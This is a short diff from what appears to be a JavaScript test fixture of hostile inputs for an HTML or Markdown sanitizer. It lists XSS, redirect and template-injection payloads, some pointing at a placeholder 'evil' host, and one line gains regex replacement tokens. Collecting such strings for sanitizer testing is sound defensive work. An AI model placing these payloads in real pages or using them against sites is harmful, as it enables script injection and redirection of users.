@@ -12,7 +12,7 @@ const lines = [
   `<style>@import '${evil}/a.css'</style><link rel=stylesheet href=${evil}/b.css><base href=${evil}>`,
   `<iframe srcdoc="<script>alert(1)</script>"></iframe><meta http-equiv=refresh content="0;url=${evil}">`,
   `<a href="java&#10;script:alert(1)">a</a><form action=${evil}><button>b</button></form><!--`,
-  `{{constructor.constructor('alert(1)')()}} \u2028 ]]>`,
+  `{{constructor.constructor('alert(1)')()}} \u2028 ]]> $& $'`,
 ].join('\n')
 /** What an unsafe Markdown renderer would let through. */
 const markdown = [
